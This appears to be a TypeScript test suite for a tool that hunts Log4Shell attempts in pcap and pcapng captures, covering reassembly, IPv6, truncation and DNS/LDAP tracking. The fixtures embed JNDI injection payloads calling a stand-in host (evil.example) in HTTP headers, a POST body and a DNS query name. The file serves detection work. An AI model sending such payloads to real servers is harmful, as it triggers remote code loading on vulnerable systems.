import { createRequire } from 'node:module'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { connectionOf, type PacketRecipe, pcapngOf, pcapOf } from '../../../test/kit/captures.ts'
import { contained } from '../../../test/kit/hunting.ts'

const { encode } = createRequire(import.meta.url)('dns-packet') as {
  encode: (packet: object) => Uint8Array
}
const attack = '${jndi:ldap://evil.example:1389/a}'
const get = `GET /a?q=1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: ${attack}\r\nAccept: */*\r\n\r\n`

/** `field of request: name`, and each gap. */
function told(file: Uint8Array): readonly string[] {
  const { findings, gaps } = contained(file)
  return [
    ...findings.map(({ field, request, from, lookup }) => `${from} ${field} of ${request}: ${lookup.host}`),
    ...gaps.map(({ because, detail }) => `${because}: ${detail}`),
  ]
}

const found = ['203.0.113.9 header User-Agent of GET /a?q=1: evil.example']

test.each([
  ['pcap', pcapOf(connectionOf(get))],
  ['pcap of a machine of the other byte order', pcapOf(connectionOf(get), { bigEndian: true })],
  ['pcap in nanoseconds', pcapOf(connectionOf(get), { nano: true })],
  ['pcapng', pcapngOf(connectionOf(get))],
  ['a tag of VLAN', pcapOf(connectionOf(get, { vlan: 5 }))],
  ['sequence numbers that begin again', pcapOf(connectionOf(get, { sequence: 0xffff_fff0 }))],
])('a request in segments is read, with its time: %s', (_case, file) => {
  expect(told(file)).toEqual(found)
  expect(contained(file).findings[0]?.when).toBe(Date.UTC(2021, 11, 12, 4, 25, 41))
})

test('IPv6 is read', () => {
  expect(told(pcapOf(connectionOf(get, { from: '2001:db8::9', to: '2001:db8::4' })))).toEqual([
    '2001:db8::9 header User-Agent of GET /a?q=1: evil.example',
  ])
})

test('segments may come in any order, and as often as they like, before the end or behind it', () => {
  const packets = connectionOf(get, { size: 17 })
  fc.assert(
    fc.property(
      fc.shuffledSubarray(packets.slice(1), { minLength: packets.length - 1, maxLength: packets.length - 1 }),
      fc.subarray([...packets.slice(1)]),
      (shuffled, again) => {
        const [syn] = packets
        expect(told(pcapOf([...(syn === undefined ? [] : [syn]), ...shuffled, ...again]))).toEqual(found)
      },
    ),
    { numRuns: 100 },
  )
})

test('a capture that began in the middle of a connection is read from there', () => {
  expect(told(pcapOf(connectionOf(get).slice(1)))).toEqual(found)
})

test('a body is read, and what is posted in it', () => {
  const body = `user=${attack}&x=1`
  const post = `POST /login HTTP/1.1\r\nHost: a\r\nContent-Length: ${body.length}\r\n\r\n${body}${get}`

  expect(told(pcapOf(connectionOf(post)))).toEqual(['203.0.113.9 body of POST /login: evil.example', ...found])
})

test('a payload that lies where a long connection is taken apart is found', () => {
  const post = `POST /a HTTP/1.1\r\nHost: a\r\nContent-Length: 2097152\r\n\r\n`
  const filler = 'x'.repeat(1_048_576 - post.length - 10)
  const packets = connectionOf(`${post}${filler}${attack}${'y'.repeat(100_000)}`, { size: 1_400 })

  expect(told(pcapOf(packets)).filter((line) => line.includes('evil.example'))).not.toEqual([])
})

test('what was not captured is a gap, and what was is read', () => {
  const packets = connectionOf(`${get}${get.replace('evil', 'other')}`)
  const hole = packets.filter((_, index) => index !== 2)
  const [first, last] = [told(pcapOf(hole)), told(pcapOf(packets.map((packet) => ({ ...packet, captured: 60 }))))]

  expect(first).toContain('truncated: parts of the connection tcp 203.0.113.9:40001 > 10.0.0.4:80 were not captured')
  expect(first.join()).toContain('other.example')
  expect(last.at(-1)).toMatch(/^truncated: \d+ packets were captured without their ends/)
})

test('a file that is cut is read to there, and so is told', () => {
  const file = pcapOf([...connectionOf(get), ...connectionOf(get, { fromPort: 40_002 })])

  expect(told(file.subarray(0, file.length - 3))).toEqual([
    ...found,
    ...found,
    'truncated: the last packet is not whole',
  ])
})

test('packets of a kind of link that is not known are told', () => {
  const file = pcapOf(connectionOf(get))
  file[20] = 147

  expect(told(file)).toEqual(['unsupported: 5 packets are of a kind of link that is not known, from here on'])
})

test('DNS questions, LDAP searches, requests and connections say who went out, and questions are hunted in', () => {
  const base = { from: '10.0.0.4', to: '203.0.113.66', fromPort: 41_000, toPort: 1_389 }
  const dns = (name: string): PacketRecipe => ({
    ...base,
    transport: 'udp',
    toPort: 53,
    payload: encode({ type: 'query', id: 1, questions: [{ name, type: 'A' }] }),
  })
  const bind = Uint8Array.from([0x30, 12, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, 0x80, 0])
  const search = Uint8Array.from([
    0x30, 26, 2, 1, 2, 0x63, 21, 4, 1, 0x61, 10, 1, 0, 10, 1, 0, 2, 1, 0, 2, 1, 0, 1, 1, 0, 0x87, 0, 0x30,
  ])
  search[1] = search.length - 1
  search[6] = search.length - 6
  const ldap = [
    { ...base, sequence: 1, flags: ['syn'] as const },
    { ...base, sequence: 2, payload: Uint8Array.from([...bind, ...search, 0]) },
  ]
  const { findings, saw } = contained(pcapOf([dns('evil.example'), dns('${jndi:ldap://b.example/a}'), ...ldap]))

  expect(saw).toEqual([
    { is: 'dns-query', name: 'evil.example', by: '10.0.0.4' },
    { is: 'dns-query', name: '${jndi:ldap://b.example/a}', by: '10.0.0.4' },
    { is: 'connection', to: '203.0.113.66', name: null, port: 1_389, by: '10.0.0.4', protocol: 'tcp' },
    { is: 'connection', to: '203.0.113.66', name: null, port: 1_389, by: '10.0.0.4', protocol: 'ldap' },
    { is: 'connection', to: '203.0.113.66', name: null, port: 1_389, by: '10.0.0.4', protocol: 'ldap', asked: 'a' },
  ])
  expect(findings.map(({ lookup }) => lookup.host)).toEqual(['b.example'])
})
